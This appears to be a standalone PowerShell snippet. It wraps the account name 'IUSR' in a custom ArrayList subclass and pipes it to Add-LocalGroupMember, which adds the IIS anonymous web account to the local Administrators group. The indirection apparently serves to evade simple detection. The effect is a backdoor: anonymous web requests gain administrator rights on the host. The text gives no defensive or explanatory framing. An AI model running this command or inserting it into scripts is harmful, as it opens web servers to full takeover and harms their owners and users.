class L : System.Collections.ArrayList { }
$l = [L]::new(); [void]$l.Add('IUSR')
$l | % { Add-LocalGroupMember Administrators $_ }
